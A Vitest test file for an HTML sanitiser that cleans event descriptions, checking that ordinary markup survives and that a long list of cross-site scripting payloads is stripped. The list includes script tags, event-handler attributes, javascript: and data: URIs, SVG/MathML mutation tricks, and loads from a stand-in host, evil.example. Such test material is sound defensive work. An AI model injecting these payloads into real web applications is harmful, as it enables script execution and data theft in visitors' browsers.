import { describe, expect, test } from 'vitest';
import { maxDescriptionTags } from '#contract/events/event-input.ts';
import { cleanHtml } from './clean-html.ts';

describe('What staff write in a description stays', () => {
  test.each([
    '<p>Songs <strong>after</strong> <em>midnight</em>, <b>loud</b> <i>and</i> <u>slow</u> <s>sold out</s>.</p>',
    '<h2>Doors</h2><h3>Seven</h3><h4>Sharp</h4>',
    '<ul><li>Coffee</li><li>Cake</li></ul><ol><li>One</li></ol>',
    '<blockquote>Side A only.</blockquote><pre><code>A B</code></pre><small>x<sub>2</sub><sup>3</sup></small>',
    '<table><thead><tr><th colspan="2" scope="col">Doors</th></tr></thead><tbody><tr><td rowspan="2">7</td></tr></tbody></table>',
    '<p>Fish &amp; chips &lt;3</p>',
    '<p>Música 音楽 🎸 \u2028 naïve</p>',
    'No tags at all',
    '',
  ])('%s', (html) => {
    expect(cleanHtml(html)).toBe(html);
  });

  test('a link, which opens nothing of ours to the other side', () => {
    expect(
      cleanHtml(
        '<a href="https://example.com/t?a=1&amp;b=2" title="Tickets" target="_blank" rel="opener">Tickets</a>',
      ),
    ).toBe(
      '<a href="https://example.com/t?a=1&amp;b=2" title="Tickets" target="_blank" rel="noopener noreferrer nofollow">Tickets</a>',
    );
  });

  test.each(['mailto:booking@example.com', 'tel:+17065550142', '/events/3', '#top', 'http://example.com'])(
    'a link to %s',
    (href) => {
      expect(cleanHtml(`<a href="${href}">x</a>`)).toContain(`href="${href}"`);
    },
  );

  test.each(['https://', 'http://', ' HTTPS: ', 'https:///', 'mailto:', 'tel:', ''])(
    'the words of a link whose address was never finished: %j',
    (href) => {
      expect(cleanHtml(`<p><a href="${href}">Tickets</a> here</p>`)).toBe('<p>Tickets here</p>');
    },
  );

  test('a picture, loaded when it comes into view', () => {
    expect(
      cleanHtml(
        '<figure><img src="https://example.com/a.jpg" alt="June" width="300" /><figcaption>June</figcaption></figure>',
      ),
    ).toBe(
      '<figure><img src="https://example.com/a.jpg" alt="June" width="300" loading="lazy" /><figcaption>June</figcaption></figure>',
    );
  });

  test('a heading of the first rank, as one of the second: the page has its own', () => {
    expect(cleanHtml('<h1>Loud</h1>')).toBe('<h2>Loud</h2>');
  });

  test('the words inside a tag that is not kept', () => {
    expect(cleanHtml('<div class="x"><span style="color:red">Words</span></div>')).toBe('Words');
  });
});

/** What would run, load, frame or restyle; each must leave nothing of the kind behind. */
const hostile = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script\n>alert(1)</script\t\n bar>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<p onclick="alert(1)" ONMOUSEOVER=alert(1)>x</p>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror="alert(1)"//',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="blob:https://example.com/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="\\\\evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="javascript:alert(1)">',
  '<img srcset="javascript:alert(1) 2x">',
  '<svg onload=alert(1)><circle></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<style>@import "//evil.example/x.css"; body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:alert(1));position:fixed">x</p>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="//evil.example/x.swf">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<form action="//evil.example/"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<a href="https://example.com" id="__proto__" name="page-state" class="button">x</a>',
  '<p id="page-state">x</p>',
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  '<b/onclick=alert(1)//>x',
  '<p \u0000onclick=alert(1)>x</p>',
  '</p><script>alert(1)</script><p>',
  '<<script>alert(1);//<</script>',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
];

const plainTag =
  /<\/?(?:p|br|hr|h[2-4]|ul|ol|li|blockquote|strong|b|em|i|u|s|small|sub|sup|code|pre|a|img|figure|figcaption|table|thead|tbody|tr|th|td)(?: (?:title|alt|width|height|colspan|rowspan|scope|target|loading|rel)="[^"<>]*"| (?:href|src)="(?:https?:\/\/|mailto:|tel:|\/(?![/\\])|#|[^":\\/]*(?:\/|"))?[^"<>]*")*(?: \/)?>/g;

describe('What would run in a guest’s browser goes', () => {
  test.each(hostile)('%j', (html) => {
    const clean = cleanHtml(html);
    expect(clean.replace(plainTag, '')).not.toMatch(/[<>]/);
    expect(clean.replaceAll(/ (?:title|alt)="[^"]*"/g, '')).not.toMatch(
      /<[^>]*(?:script:|data:|blob:|file:|srcdoc|style=|class=|id=|name=|on\w+=)/i,
    );
    expect(clean).not.toMatch(/(?:href|src)="\s*(?:\/|\\)(?:\/|\\)/);
  });

  test('with all that stood inside it', () => {
    expect(cleanHtml('a<script>alert(1)</script>b<style>p{}</style>c')).toBe('abc');
  });

  test('and a second cleaning finds nothing more to do', () => {
    for (const html of hostile) expect(cleanHtml(cleanHtml(html)), html).toBe(cleanHtml(html));
  });

  test('and paragraphs that were apart only by what goes are not one in the other', () => {
    expect(cleanHtml('<p>One<span><p>Two</p></span></p>')).toBe('<p>One</p><p>Two</p><p></p>');
  });

  test('and so does a depth in which a browser would drown', () => {
    const clean = cleanHtml(`${'<b>'.repeat(10_000)}x`);
    expect(clean).toBe(`${'<b>'.repeat(50)}x${'</b>'.repeat(50)}`);
    expect(cleanHtml(clean)).toBe(clean);
  });

  test('also out of a text that is huge, without keeping anyone waiting', () => {
    const started = performance.now();
    cleanHtml('<'.repeat(100_000));
    cleanHtml('<!--'.repeat(50_000));
    cleanHtml('<p '.repeat(50_000));
    cleanHtml(`<a href="${'j\n'.repeat(250_000)}">`);
    cleanHtml('&#'.repeat(100_000));
    // The worst that is taken: as many open tags as a description may have, and as many that close others.
    cleanHtml(`${'<x>'.repeat(maxDescriptionTags / 2)}${'</y>'.repeat(maxDescriptionTags / 2)}`);
    cleanHtml('<p><li><td>'.repeat(maxDescriptionTags / 3));
    // Work that grew with the square of the text would take minutes.
    expect(performance.now() - started).toBeLessThan(20_000);
  });
});
